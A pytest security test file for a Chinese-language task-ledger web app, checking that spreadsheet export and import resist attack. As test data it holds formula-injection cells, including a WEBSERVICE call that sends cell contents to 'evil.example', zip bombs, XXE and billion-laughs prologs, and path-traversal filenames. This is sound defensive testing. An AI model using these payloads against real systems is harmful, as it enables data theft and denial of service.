"""SECURITY-TESTS.md groups D (export) and E (upload and import), through the real pages and CLI.

"Nothing written" is checked with a snapshot of row counts, versions and statuses before and after
(tests/helpers/ledger.snapshot). Hostile files are built here or with the builders of tests/helpers/xlsx.py.
"""
from __future__ import annotations

import datetime
import io
import json
import re
import zipfile
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest
from sqlalchemy import select
from sqlalchemy.exc import OperationalError

from tests.helpers.budget import cpu_seconds_under
from tests.helpers.forms import csrf_token
from tests.helpers.ledger import (confirm, download, edit, export, header, preview_url, reimport, snapshot, store_note,
                                  task_by_number, upload)
from tests.helpers.paths import ROOT as REPO
from tests.helpers.processes import refusal_in_a_fresh_process
from tests.helpers.xlsx import HEADER_XML, LAUGHS, XXE, inline_row, raw_xlsx, rezip, sheet_xml
from tracker.extensions import db
from tracker.models import ImportRecord, JournalEntry, Task
from tracker.services.ledger import importing as ledger_import

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TRIGGERS = ['=HYPERLINK("http://x","点击")', "+1+2", "-5", "@SUM(A1)", "\t制表符开头", "\r回车开头"]


def sheet_xml_of(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def progress_cells(data: bytes) -> dict[str, openpyxl.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    top, columns = header(sheet)
    return {sheet.cell(r, 1).value: sheet.cell(r, columns["进展情况"]) for r in range(top + 1, sheet.max_row + 1)}


# ---------------------------------------------------------------- D. export


def test_d1_formula_like_notes_export_as_quoted_text(app, client, auth):
    numbers = ["一（一）", "一（二）", "一（三）", "一（四）", "一（五）", "二（一）"]
    for number, note in zip(numbers, TRIGGERS):
        store_note(app, number, note)
    auth.login("duban")
    data = download(client).data
    assert "<f>" not in sheet_xml_of(data) and "<f " not in sheet_xml_of(data)
    cells = progress_cells(data)
    for number, note in zip(numbers, TRIGGERS):
        cell = cells[number]
        assert cell.data_type == "s" and cell.value == note and cell.quotePrefix, number


def test_d1_a_nul_first_note_is_cleaned_and_judged_by_what_follows(tmp_path):
    # PostgreSQL text cannot hold NUL at all, so this case is checked on the writer alone.
    from tests.helpers.xlsx import own_rows
    from tracker.ledger import Ledger, write_ledger

    rows = own_rows()[:2]
    rows[0].progress, rows[1].progress = "\0=1+1", "\0普通文字"
    out = tmp_path / "nul.xlsx"
    write_ledger(Ledger(title="台账", unit_name=None, export_date=datetime.date(2024, 3, 5), rows=rows), out)
    cells = progress_cells(out.read_bytes())
    assert (cells["一（一）"].value, cells["一（一）"].quotePrefix) == ("=1+1", True)
    assert (cells["一（二）"].value, bool(cells["一（二）"].quotePrefix)) == ("普通文字", False)


def test_d2_numbers_stay_numbers_and_only_text_is_neutralised(app, client, auth):
    store_note(app, "一（一）", "-5")
    auth.login("duban")
    data = download(client).data
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    top, columns = header(sheet)
    versions = [sheet.cell(r, columns["版本"]) for r in range(top + 1, sheet.max_row + 1)]
    assert all(cell.data_type == "n" and isinstance(cell.value, int) for cell in versions)
    assert not any(cell.quotePrefix for cell in versions)
    note = progress_cells(data)["一（一）"]
    assert note.value == "-5" and note.data_type == "s" and note.quotePrefix


def test_d3_control_characters_export_without_error(app, client, auth):
    store_note(app, "一（三）", "第一段\x01第二段\x0b完")
    auth.login("duban")
    data = download(client).data
    assert progress_cells(data)["一（三）"].value == "第一段第二段完"


def test_d4_export_holds_the_callers_scope_as_a_chinese_safe_attachment(app, client, auth):
    with app.app_context():
        canary = next(t for t in db.session.scalars(select(Task)) if t.number_display == "一（四）")  # 重庆保监局's
        canary_key = canary.key
    store_note(app, "一（四）", "保监局的金丝雀进展")
    auth.login("zjj")
    response = download(client)
    assert response.mimetype == XLSX
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    encoded = re.search(r"filename\*=UTF-8''([^;]+)", disposition)
    assert encoded and "重庆证监局" in unquote(encoded.group(1))
    assert response.headers["Cache-Control"] == "no-store"
    numbers = set(progress_cells(response.data))
    assert numbers == {"一（一）", "一（三）", "一（五）", "四（二）"}
    text = openpyxl.load_workbook(io.BytesIO(response.data)).worksheets[0]
    values = {str(c.value) for row in text.iter_rows() for c in row if c.value is not None}
    assert canary_key not in values and "保监局的金丝雀进展" not in values


def test_d5_export_then_import_unchanged_is_zero_changes_and_no_apostrophes(app, client, auth, tmp_path):
    for number, note in zip(["一（一）", "一（二）", "一（三）"], TRIGGERS):
        store_note(app, number, note)
    auth.login("duban")
    first = download(client).data
    page, before, after = reimport(app, client, first)
    assert re.search(r'<div class="h4 mb-0">0</div><div class="small text-muted">更新任务', page)
    assert re.search(r'<div class="h4 mb-0 text-warning">0</div>', page)
    assert after["ProgressReport"] == before["ProgressReport"] and after["versions"] == before["versions"]
    second = download(client).data
    assert {k: c.value for k, c in progress_cells(second).items()} == {k: c.value for k, c in progress_cells(first).items()}
    assert not any(str(c.value).startswith("'") for c in progress_cells(second).values() if c.value)


# ---------------------------------------------------------------- E. upload and import


def uploads_folder(app) -> Path:
    return Path(app.instance_path) / "ledger-uploads"


def stored_files(app) -> list[str]:
    folder = uploads_folder(app)
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def test_e1_upload_over_the_limit_is_413_in_chinese(app, client, auth):
    auth.login("duban")
    before = snapshot(app)
    response = upload(client, b"PK\x03\x04" + b"\0" * (21 * 1024 * 1024), "大文件.xlsx")
    assert response.status_code == 413
    body = response.get_data(as_text=True)
    assert "文件太大" in body and "20 MB" in body and "Traceback" not in body
    assert stored_files(app) == [] and snapshot(app) == before


def test_e1_ledger_limit_is_configurable(app, client, auth, tmp_path):
    app.config["LEDGER_MAX_BYTES"] = 5000
    auth.login("duban")
    response = upload(client, export(app, tmp_path / "台账.xlsx"), "台账.xlsx")
    assert response.status_code == 413 and "上限" in response.get_data(as_text=True)


def test_e2_zip_bomb_is_refused_before_openpyxl_and_stays_small(app, client, auth, tmp_path, no_openpyxl):
    data = export(app, tmp_path / "台账.xlsx").read_bytes()
    bomb = rezip(data, replace={"xl/worksheets/sheet1.xml": b"<x>" + b" " * 60_000_000 + b"</x>"})
    assert len(bomb) < 1_000_000
    auth.login("duban")
    with cpu_seconds_under(2):
        response = upload(client, bomb, "炸弹.xlsx")
    assert response.status_code == 400 and "压缩炸弹" in response.get_data(as_text=True)
    assert stored_files(app) == []


def test_e2_zip_bomb_refusal_grows_memory_by_less_than_50_mb(app, tmp_path):
    data = export(app, tmp_path / "台账.xlsx").read_bytes()
    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(rezip(data, replace={"xl/worksheets/sheet1.xml": b"<x>" + b" " * 200_000_000 + b"</x>"}))
    code, grown_mb = refusal_in_a_fresh_process("tracker.services.ledger.importing:load_ledger", bomb)
    assert code == "compression_ratio" and grown_mb < 50


def test_e3_too_many_members_or_a_high_ratio_is_refused(app, client, auth, tmp_path, no_openpyxl):
    data = export(app, tmp_path / "台账.xlsx").read_bytes()
    many = rezip(data, add={f"xl/media/image{i}.png": b"x" for i in range(201)})
    ratio = rezip(data, add={"xl/media/pad.bin": b"\0" * 2_000_000})
    auth.login("duban")
    for name, file, words in (("部件过多.xlsx", many, "超过上限 200"), ("高压缩比.xlsx", ratio, "倍")):
        response = upload(client, file, name)
        assert response.status_code == 400 and words in response.get_data(as_text=True), name
    assert stored_files(app) == []


def test_e4_forged_dimension_processes_only_the_real_rows(app, tmp_path):
    rows = "".join(inline_row(n, str(n - 1), f"任务{n - 1}", "市金融办", "年底") for n in (2, 3, 4))
    forged = raw_xlsx(sheet_xml(HEADER_XML + rows, dimension="A1:XFD1048576"))
    path = tmp_path / "forged.xlsx"
    path.write_bytes(forged)
    with cpu_seconds_under(1.0):
        result = app.test_cli_runner().invoke(args=["import-ledger", str(path), "--dry-run"])
    assert result.exit_code == 0, result.output
    assert "rows read: 3, tasks created: 3" in result.output


def test_e5_more_rows_than_the_limit_is_refused_before_any_database_work(app, client, auth, tmp_path):
    app.config["LEDGER_MAX_ROWS"] = 10
    book = openpyxl.Workbook()
    book.active.append(["序号", "具体措施", "牵头单位"])
    for i in range(1, 12):
        book.active.append([i, f"任务{i}", "市金融办"])
    path = tmp_path / "多行.xlsx"
    book.save(path)
    before = snapshot(app)
    auth.login("duban")
    url = preview_url(upload(client, path, "多行.xlsx"))
    response = client.get(url)
    assert response.status_code == 400
    assert "超过上限 10 行" in response.get_data(as_text=True)
    result = app.test_cli_runner().invoke(args=["import-ledger", str(path)])
    assert result.exit_code == 1 and "超过上限 10 行" in result.output
    assert snapshot(app) == before


@pytest.mark.parametrize("prolog", [LAUGHS, XXE], ids=["billion-laughs", "xxe"])
def test_e6_entity_declarations_are_refused_and_nothing_leaks(app, client, auth, prolog, no_openpyxl):
    assert openpyxl.xml.DEFUSEDXML is True
    data = raw_xlsx(sheet_xml(HEADER_XML + inline_row(2, "1", "&xxe;&lol9;", "市金融办"), prolog=prolog))
    auth.login("duban")
    response = upload(client, data, "实体.xlsx")
    body = response.get_data(as_text=True)
    assert response.status_code == 400 and "DOCTYPE" in body
    assert "root:" not in body and "lollol" not in body
    assert stored_files(app) == []


def _ole(extra: bytes = b"") -> bytes:
    return bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 504 + extra


# A CSV is read as a ledger since issue 15 (by its bytes, whatever its name): tests/web/test_ledger_exchange.py.
@pytest.mark.parametrize("name, data, words", [
    ("网页.xlsx", b"<html><body><table><tr><td>1</td></tr></table></body></html>", "HTML"),
    ("文档.xlsx", b"%PDF-1.7\n1 0 obj\n", "PDF"),
    ("旧版.xls", _ole(), ".xls"),
], ids=["html", "pdf", "xls"])
def test_e7_other_files_renamed_xlsx_are_refused_by_their_bytes(app, client, auth, name, data, words, no_openpyxl):
    auth.login("duban")
    response = upload(client, data, name)
    assert response.status_code == 400 and words in response.get_data(as_text=True)
    assert stored_files(app) == []


def test_e7_macro_workbooks_are_refused(app, client, auth, tmp_path, no_openpyxl):
    data = export(app, tmp_path / "台账.xlsx").read_bytes()
    auth.login("duban")
    for name, file in (("宏.xlsx", rezip(data, add={"xl/vbaProject.bin": b"macro"})), ("宏.xlsm", data)):
        response = upload(client, file, name)
        assert response.status_code == 400 and "宏" in response.get_data(as_text=True)
    assert stored_files(app) == []


@pytest.mark.parametrize("name", ["../../app.py", "重庆证监局 台账（第3期）.xlsx", "..\\..\\evil.xlsx"])
def test_e8_uploads_are_stored_under_a_server_generated_name(app, client, auth, tmp_path, name):
    data = export(app, tmp_path / "台账.xlsx").read_bytes()
    auth.login("duban")
    url = preview_url(upload(client, data, name))
    files = stored_files(app)
    assert len(files) == 2 and all(re.fullmatch(r"[0-9a-f]{32}\.(xlsx|json)", f) for f in files)
    assert not (REPO / "app.py").exists() and not (Path(app.instance_path).parent / "evil.xlsx").exists()
    meta = next(f for f in files if f.endswith(".json"))
    original = json.loads((uploads_folder(app) / meta).read_text(encoding="utf-8"))["original_name"]
    assert original == name.replace("\\", "")  # the test client drops backslashes; kept as given otherwise
    page = client.get(url).get_data(as_text=True)
    assert "导入预览" in page
    assert confirm(client, url).status_code == 302
    with app.app_context():
        assert db.session.scalar(select(ImportRecord)).filename == original  # metadata only
    assert stored_files(app) == []  # removed once confirmed


@pytest.fixture
def hundred(app, tmp_path) -> Path:
    """A plan of 100 tasks led by 重庆证监局 (imported from a ledger), exported; returns the export."""
    book = openpyxl.Workbook()
    book.active.append(["序号", "具体措施", "牵头单位", "完成时限"])
    for i in range(1, 101):
        book.active.append([i, f"第{i}项工作任务。", "重庆证监局", "2025年底前"])
    source = tmp_path / "百项任务.xlsx"
    book.save(source)
    result = app.test_cli_runner().invoke(args=["import-ledger", str(source)])
    assert result.exit_code == 0 and "plan_id=2" in result.output
    return export(app, tmp_path / "百项台账.xlsx", "--plan", "2")


def test_e9_every_bad_row_among_100_is_listed_and_nothing_is_written(app, client, auth, hundred, tmp_path):
    book = openpyxl.load_workbook(hundred)
    sheet = book.worksheets[0]
    top, columns = header(sheet)
    for r in range(top + 1, top + 101):
        sheet.cell(r, columns["进展情况"]).value = f"第{r}行的进展。"
    bad = {top + 10: ("完成状态", "120 %"), top + 30: ("任务键", "0" * 32), top + 70: ("完成状态", "差不多")}
    for r, (caption, value) in bad.items():
        sheet.cell(r, columns[caption]).value = value
    sheet.cell(top + 50, columns["存在问题"]).value = "=1+1"
    path = tmp_path / "有错.xlsx"
    book.save(path)
    before = snapshot(app)
    auth.login("duban")
    url = preview_url(upload(client, path, "有错.xlsx"))
    page = client.get(url).get_data(as_text=True)
    for r, column in ((top + 10, "J"), (top + 30, "K"), (top + 50, "H"), (top + 70, "J")):
        assert re.search(rf"工作表“工作台账” 第 {r} 行，{column} 列（[^）]+）：", page), (r, column)
    assert "120%" in page and "未知的任务键" in page and "公式单元格" in page
    response = client.post(url + "/confirm", data={"csrf_token": csrf_token(page)})
    assert response.status_code == 409 and "没有写入任何数据" in response.get_data(as_text=True)
    assert snapshot(app) == before


def test_e10_database_failure_at_row_50_rolls_everything_back(app, client, auth, hundred, tmp_path, monkeypatch):
    book = openpyxl.load_workbook(hundred)
    sheet = book.worksheets[0]
    top, columns = header(sheet)
    for r in range(top + 1, top + 101):
        sheet.cell(r, columns["进展情况"]).value = f"第{r}行的进展。"
    path = tmp_path / "全部填写.xlsx"
    book.save(path)
    calls = []
    real = ledger_import._apply_change

    def failing(change, *args):
        calls.append(change)
        if len(calls) == 50:
            raise OperationalError("INSERT INTO progress_report", {}, Exception("disk I/O error"))
        real(change, *args)

    monkeypatch.setattr(ledger_import, "_apply_change", failing)
    app.config["PROPAGATE_EXCEPTIONS"] = False
    before = snapshot(app)
    with app.app_context():
        batches = set(db.session.scalars(select(JournalEntry.batch)))
    auth.login("duban")
    response = confirm(client, preview_url(upload(client, path, "全部填写.xlsx")))
    body = response.get_data(as_text=True)
    # A database error is answered as "database unavailable, nothing saved" with an incident id (errors.py).
    assert response.status_code == 503
    assert "没有保存" in body and re.search(r"事件编号：<code>[0-9a-f]{12}</code>", body)
    assert "OperationalError" not in body and "progress_report" not in body
    assert len(calls) == 50
    assert snapshot(app) == before
    with app.app_context():
        assert set(db.session.scalars(select(JournalEntry.batch))) == batches  # no entry of the failed batch
        assert db.session.scalar(select(ImportRecord).where(ImportRecord.filename == "全部填写.xlsx")) is None


def test_e11_formula_cells_are_row_errors_never_evaluated_or_stored(app, tmp_path):
    exported = export(app, tmp_path / "台账.xlsx", "--plan", "1")
    book = openpyxl.load_workbook(exported)
    sheet = book.worksheets[0]
    top, columns = header(sheet)
    sheet.cell(top + 1, columns["进展情况"]).value = "=1+1"
    sheet.cell(top + 2, columns["下步计划"]).value = '=WEBSERVICE("http://evil.example/?"&A1)'
    path = tmp_path / "公式.xlsx"
    book.save(path)
    before = snapshot(app)
    result = app.test_cli_runner().invoke(args=["import-ledger", str(path)])
    assert result.exit_code == 1
    assert f"row {top + 1}, column G: 公式单元格，请改为文本" in result.output
    assert f"row {top + 2}, column I: 公式单元格，请改为文本" in result.output
    assert snapshot(app) == before


def test_e12_the_same_file_is_not_applied_twice(app, client, auth, tmp_path):
    exported = export(app, tmp_path / "台账.xlsx", "--plan", "1")
    edited = edit(exported, tmp_path / "填报.xlsx", {"一（二）": {"进展情况": "只应导入一次。"}})
    auth.login("duban")
    assert confirm(client, preview_url(upload(client, edited))).status_code == 302
    before = snapshot(app)
    url = preview_url(upload(client, edited, "改了名字.xlsx"))
    page = client.get(url).get_data(as_text=True)
    assert "此文件已于" in page and "不会重复导入" in page and "确认导入" not in page
    assert client.post(url + "/confirm", data={"csrf_token": csrf_token(page)}).status_code == 409
    result = app.test_cli_runner().invoke(args=["import-ledger", str(edited)])
    assert result.exit_code == 1 and "不会重复导入" in result.output
    assert snapshot(app) == before
    assert [r.progress for r in task_by_number(app, "一（二）").reports] == ["只应导入一次。"]


def test_import_routes_refuse_posts_without_a_csrf_token(app, client, auth, tmp_path):
    exported = export(app, tmp_path / "台账.xlsx", "--plan", "1")
    edited = edit(exported, tmp_path / "填报.xlsx", {"一（二）": {"进展情况": "进展。"}})
    auth.login("duban")
    url = preview_url(upload(client, edited))
    before = snapshot(app)
    for target in (url + "/confirm", url + "/mapping", url + "/discard", "/imports/1/revert"):
        assert client.post(target, data={}).status_code == 400, target
    response = client.post("/imports/new", data={"file": (io.BytesIO(edited.read_bytes()), "x.xlsx")},
                           content_type="multipart/form-data")
    assert response.status_code == 400
    assert snapshot(app) == before


def test_import_pages_need_a_login_and_the_uploaders_own_token(app, client, auth, tmp_path):
    for path in ("/imports", "/imports/new", "/imports/1"):
        response = client.get(path)
        assert response.status_code == 302 and "/login" in response.headers["Location"]
    auth.login("duban")
    url = preview_url(upload(client, export(app, tmp_path / "台账.xlsx")))
    auth.logout()
    auth.login("zjj")
    assert client.get(url).status_code == 404  # another user's upload
    assert client.get("/imports/pending/..%2F..%2Fsecret_key").status_code == 404
